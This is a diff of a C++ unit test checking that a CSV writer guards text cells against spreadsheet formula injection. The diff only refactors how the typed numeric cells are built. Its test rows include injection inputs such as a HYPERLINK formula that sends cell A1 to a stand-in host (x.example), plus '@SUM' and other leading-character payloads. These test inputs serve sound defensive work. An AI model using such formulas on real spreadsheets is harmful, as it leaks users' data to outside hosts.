@@ -93,10 +93,6 @@ TEST(HtmlTableWriter, ReplacesAnExistingFileAndKeepsLongTextsWholeAcrossFlushes)
 TEST(CsvTableWriter, QuotesAndGuardsTextsButNotTheNumbersItFormats) {
     TempModuleFolder temp;
     const std::string path = temp.Path() + "out.CSV";
-    TableCell amount("-12.50"), count("-3"), when("2007_03_01");
-    amount.kind = CellKind::Money;
-    count.kind = CellKind::Integer;
-    when.kind = CellKind::Day;
     {
         auto writer = MakeTableWriter(path);
         ASSERT_EQ(writer->Open("销售资料", path), 1);
@@ -106,7 +102,9 @@ TEST(CsvTableWriter, QuotesAndGuardsTextsButNotTheNumbersItFormats) {
         writer->WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
         writer->WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
         writer->WriteRow(Row{"a=1", "1+1", "x-@\t"});
-        writer->WriteRow(Row{amount, count, when});
+        writer->WriteRow(Row{Typed(CellKind::Money, -12.5, "-12.50"),
+                             Typed(CellKind::Integer, -3, "-3"),
+                             Typed(CellKind::Day, 1172729109, "2007_03_01")});
         ASSERT_EQ(writer->Close(), 1);
     }
     EXPECT_EQ(ReadFile(path),
